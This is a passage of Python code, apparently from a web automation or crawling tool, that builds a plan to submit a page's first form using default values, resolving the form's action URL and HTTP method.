        )
        actions.append(ElementAction(node.node_id, "form", submit_name, "submit", ""))
        return ActionPlan(
            kind="submit",
            actions=actions,
            description="submit first form with defaults",
            scope_node=node.node_id,
            form_action=urljoin(base, node.attr("action") or base),
            form_method=(node.attr("method") or "get").lower(),
            target_url=base,
        )
    return None
